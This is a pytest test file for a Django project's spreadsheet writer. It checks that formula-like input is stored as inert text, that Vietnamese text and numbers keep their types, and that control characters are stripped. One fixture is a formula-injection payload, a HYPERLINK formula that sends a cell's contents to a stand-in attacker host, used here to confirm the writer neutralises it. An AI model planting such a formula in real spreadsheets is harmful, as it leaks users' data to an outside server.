"""partyreg.xlsx, the one writer of every spreadsheet the site sends (issue 15, finding 2)."""

import datetime
import io
import re
from pathlib import Path

import openpyxl
import pytest
from django.conf import settings

from partyreg import xlsx

FORMULA_LIKE = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "=1+1", "+1", "-1+1", "@SUM(A1)"]


def written(values) -> openpyxl.worksheet.worksheet.Worksheet:
    book = xlsx.workbook()
    sheet = xlsx.add_sheet(book, "Thử", widths=[30, 12], freeze="B2")
    for value in values:
        xlsx.append(sheet, [value])
    return openpyxl.load_workbook(io.BytesIO(xlsx.save(book))).active


def test_text_that_looks_like_a_formula_is_text_and_stays_text_when_edited():
    sheet = written(FORMULA_LIKE)
    for row, text in enumerate(FORMULA_LIKE, start=1):
        cell = sheet.cell(row, 1)
        assert (cell.value, cell.data_type) == (text, "s")
        assert cell.quotePrefix  # Excel keeps it text after the cell is edited


def test_error_words_and_plain_text_are_text():
    sheet = written(["#N/A", "#REF!", "Nguyễn Văn An", "0912345678"])
    assert [(c.value, c.data_type) for (c,) in sheet.iter_rows()] == [
        ("#N/A", "s"),
        ("#REF!", "s"),
        ("Nguyễn Văn An", "s"),
        ("0912345678", "s"),
    ]
    assert not sheet.cell(3, 1).quotePrefix


def test_numbers_dates_and_blanks_keep_their_type():
    day = datetime.date(2026, 11, 20)
    book = xlsx.workbook()
    sheet = xlsx.add_sheet(book, "Thử")
    xlsx.append(sheet, [12, None, "", 0.5, xlsx.cell(sheet, day, number_format="DD/MM/YYYY")])
    row = next(openpyxl.load_workbook(io.BytesIO(xlsx.save(book))).active.iter_rows())
    assert [c.value for c in row[:4]] == [12, None, None, 0.5]
    assert row[4].value == datetime.datetime(2026, 11, 20) and row[4].number_format == "DD/MM/YYYY"


def test_control_characters_are_dropped_not_an_error():
    sheet = written(["Lê\x07Văn\x1bBình", "dòng\nhai\ttab"])
    assert sheet.cell(1, 1).value == "LêVănBình"
    assert sheet.cell(2, 1).value == "dòng\nhai\ttab"


def test_bold_fill_and_formats_are_kept():
    fill = xlsx.fill("F8D7DA")
    book = xlsx.workbook()
    sheet = xlsx.add_sheet(book, "Thử")
    xlsx.append(sheet, ["Tổng", xlsx.cell(sheet, 0.25, number_format="0%", fill=fill)], bold=True)
    first, rate = next(openpyxl.load_workbook(io.BytesIO(xlsx.save(book))).active.iter_rows())
    assert first.font.bold and rate.number_format == "0%"
    assert rate.fill.fgColor.rgb.endswith("F8D7DA")


@pytest.mark.parametrize("app", ["partyreg", "members", "residence", "evaluations"])
def test_no_other_module_writes_a_spreadsheet(app):
    """openpyxl is imported by the writer here and by the import's reader, nowhere else."""
    allowed = {"partyreg/xlsx.py", "members/spreadsheets/reading.py"}
    base = Path(settings.BASE_DIR)
    users = {
        str(path.relative_to(base))
        for path in (base / app).rglob("*.py")
        if re.search(r"^\s*(from|import) openpyxl", path.read_text(), re.MULTILINE)
    }
    assert users <= allowed, f"write spreadsheets through partyreg.xlsx: {sorted(users - allowed)}"
